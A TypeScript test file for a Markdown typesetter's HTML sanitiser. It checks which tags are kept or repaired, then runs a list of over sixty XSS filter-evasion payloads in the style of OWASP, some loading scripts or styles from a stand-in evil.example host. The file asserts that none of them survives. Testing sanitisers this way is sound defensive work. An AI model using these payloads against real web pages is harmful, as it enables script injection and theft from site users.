import { parseFragment, type DefaultTreeAdapterTypes } from 'parse5';
import { describe, expect, it, test } from 'vitest';
import { english } from '../../tests/english.ts';
import { createTypesetter } from './createTypesetter.ts';
import type { HtmlNotes } from './keepHtml.ts';
import { parseMarkdown } from './parseMarkdown.ts';
import { settleHtml } from './settleHtml.ts';

const typeset = createTypesetter(english, {
  resolve: (target) => target,
  settleHtml,
  sizeOf: (address) => (address === '/wide.png' ? { width: 800, height: 400 } : undefined),
});

const leftOutOf = (markdown: string): string[] => {
  const notes: HtmlNotes = {};
  parseMarkdown(markdown, 'block', notes);
  return (notes.leftOut ?? []).map(({ name }) => name);
};

/** What a page gets for a text, without the ends of lines. */
const block = (markdown: string): string => typeset.block(markdown).replace(/\n/g, '');

describe('HTML in a text', () => {
  it.each([
    [
      'words of many kinds',
      '<mark>a</mark> H<sub>2</sub>O <kbd>Ctrl</kbd>',
      '<p><mark>a</mark> H<sub>2</sub>O <kbd>Ctrl</kbd></p>',
    ],
    ['an abbreviation', '<abbr title="a > b">a</abbr>', '<p><abbr title="a &gt; b">a</abbr></p>'],
    ['the end of a line', 'a<br/>b<BR>c', '<p>a<br>b<br>c</p>'],
    ['Markdown in it', '<div>\n\n*a*\n\n</div>', '<div><p><em>a</em></p></div>'],
    [
      'what folds',
      '<details open><summary>A</summary>\n\nb\n\n</details>',
      '<details open=""><summary>A</summary><p>b</p></details>',
    ],
    [
      'a table',
      '<table><tr><td align="right" colspan="2">1</td></tr></table>',
      '<table><tbody><tr><td class="to-right" colspan="2">1</td></tr></tbody></table>',
    ],
    [
      'a picture with its size',
      '<img src="/wide.png" alt="A &amp; b" width="200">',
      '<p><img src="/wide.png" width="200" alt="A &amp; b" loading="lazy" height="100"></p>',
    ],
    [
      'a picture of several',
      '<picture><source srcset="/a.webp"><img src="/a.png" alt="A"></picture>',
      '<p><img src="/a.png" alt="A" loading="lazy"></p>',
    ],
    ['a link', '<a href="/eden" target="_blank">"Eden"</a>', '<p><a href="/eden">“Eden”</a></p>'],
    ['an anchor', '<a name="x"></a>a', '<p><a id="x"></a>a</p>'],
    ['elements of other days', '<center><strike>a</strike></center>', '<div class="to-center"><s>a</s></div>'],
    ['the heading of a page, which has one', '<h1>A</h1>', '<h2>A</h2>'],
    ['code, with its quotes', '<code>"a" -- b</code>', '<p><code>"a" -- b</code></p>'],
    ['entities once', '<p>&amp;lt; &lt;b&gt;</p>', '<p>&amp;lt; &lt;b&gt;</p>'],
    [
      'a frame of a video as a link',
      '<iframe src="https://www.youtube.com/embed/abcdefghijk"></iframe>',
      '<p><a href="https://www.youtube.com/watch?v=abcdefghijk">YouTube</a></p>',
    ],
    ['a film as a link', '<video controls><source src="/a.mp4"></video>', '<p><a href="/a.mp4">a.mp4</a></p>'],
  ])('is kept where it does no harm: %s', (_what, markdown, html) => {
    expect(block(markdown)).toBe(html);
  });

  it.each([
    ['an end that is missing', '<b>a\n\nb', '<p><b>a</b></p><p>b</p>'],
    ['an end that nothing began', 'a</b></div></p>', '<p>a</p>'],
    ['what is crossed', '<b><i>a</b></i>', '<p><b><i>a</i></b></p>'],
    ['a block in a line', 'a <div>b</div> c', '<p>a </p><div>b</div> c'],
    ['a block in words', '<b><p>a</p></b>', '<p><b>a</b></p>'],
    ['an item without a list', '<li>a</li>', 'a'],
    ['a list in a list', '<ul><ul><li>a</li></ul></ul>', '<ul><li><ul><li>a</li></ul></li></ul>'],
    ['a link in a link', '<a href="/a">a<a href="/b">b</a></a>', '<p><a href="/a">a</a><a href="/b">b</a></p>'],
    ['a link around blocks', '<a href="/a">\n\nb\n\n</a>', '<a href="/a"><p>b</p></a>'],
    ['paragraphs without an end', '<p>a\n<p>b', '<p>a</p><p>b</p>'],
  ])('is brought in order: %s', (_what, markdown, html) => {
    expect(block(markdown).replace(/ +(?=<\/?p>)/g, ' ')).toBe(html);
  });

  it('is left out otherwise, with its name', () => {
    expect(block('<font color=red>a</font> <b style="x" class=y onclick="z()">b</b> <blink>c</blink>')).toBe(
      '<p>a <b>b</b> c</p>',
    );
    expect(leftOutOf('<font color=red>a</font> <b style="x" class=y onclick="z()">b</b>')).toEqual([
      '<font>',
      'style',
      'class',
      'onclick',
    ]);
    expect(block('a\n\n<script>\nlet b;\n\nb()\n</script>\n\n<iframe src="//ads.example">x</iframe>')).toBe('<p>a</p>');
    expect(leftOutOf('<script>b</script>\n\n<?php echo 1 ?> <!DOCTYPE html>')).toEqual([
      '<script>',
      '<?php>',
      '<!doctype>',
    ]);
  });

  it('may say that Markdown is in it, as kramdown has it', () => {
    expect(block('<div class="a" markdown="1">\n**b**\n\n- c\n</div>\n\n<figure markdown>\n*d*\n</figure>')).toBe(
      '<div><p><strong>b</strong></p><ul><li>c</li></ul></div><figure><p><em>d</em></p></figure>',
    );
    expect(leftOutOf('<div markdown="1">\n**b**\n</div>')).toEqual([]);
    expect(block('<div markdown="0">\n*b*\n</div>')).toBe('<div>*b*</div>');
  });

  it('in a line has no blocks', () => {
    expect(typeset.inline('<div>a <i>b</i></div>')).toBe('a <i>b</i>');
  });
});

/** In the manner of the OWASP cheat sheet on evading filters (cheatsheetseries.owasp.org). */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<<SCRIPT>alert(1);//\\<</SCRIPT>',
  '<script\n>alert(1)</script\n>',
  '<script/x>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src="javascript:alert(1)">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror = "alert(1)"/>',
  '<img/src=x/onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a onmouseover="alert(1)">x</a>',
  '<a href="x" onclick=alert(1)//>x</a>',
  '<b onmouseover=alert(1)>x</b>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width: expression(alert(1));">x</div>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://evil.example/#//www.youtube.com/embed/abcdefghijk"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<form><button formaction=javascript:alert(1)>x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<video src=x onerror=alert(1)></video>',
  '<video><source onerror=alert(1)></video>',
  '<audio src="javascript:alert(1)"></audio>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<p title="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">x</p>',
  '<p id="&quot; onclick=&quot;alert(1)">x</p>',
  "<abbr title='\"><img src=x onerror=alert(1)>'>x</abbr>",
  '<td background="javascript:alert(1)">x</td>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<xml id=x><a><b>&lt;script>alert(1)&lt;/script>;</b></a></xml>',
  '<!--[if gte IE 4]><script>alert(1);</script><![endif]-->',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?import namespace="t" implementation="#default#time2"><script>alert(1)</script>',
  '<div>\n<p title="`<img src=x onerror=alert(1)>`">x</p>\n</div>',
  '![x](x "\\"><script>alert(1)</script>")',
  '[x](<javascript:alert(1)>)<a href=javascript:alert(2)>y</a>',
];

test('there are forty attacks and more', () => {
  expect(ATTACKS.length).toBeGreaterThan(60);
});

describe('no attack comes through:', () => {
  const MAY_BE = new Set(
    '#text a abbr b blockquote br code details div em figcaption figure i img li ol p s section sub summary sup table tbody td tr ul'.split(
      ' ',
    ),
  );

  test.each(ATTACKS.map((attack) => [attack]))('%j', (attack) => {
    for (const html of [
      typeset.block(attack),
      typeset.block(`> - ${attack}`),
      typeset.block(`a ${attack} b`),
      typeset.inline(attack),
    ])
      for (const node of nodesOf(parseFragment(html))) {
        expect(MAY_BE).toContain(node.nodeName);
        for (const { name, value } of 'attrs' in node ? node.attrs : []) {
          expect(['href', 'src', 'alt', 'title', 'id', 'open', 'loading', 'class']).toContain(name);
          const isOfMarkdown = attack.startsWith('[x](<');
          if (/^(?:href|src)$/.test(name) && !isOfMarkdown)
            expect(value.replace(/[\0-\x20]/g, '')).not.toMatch(/^(?!https?:|mailto:)[a-z][\w+.-]*:/i);
        }
      }
  });
});

function* nodesOf(node: DefaultTreeAdapterTypes.Node): Generator<DefaultTreeAdapterTypes.Node> {
  for (const child of 'childNodes' in node ? node.childNodes : []) {
    yield child;
    yield* nodesOf(child);
  }
}
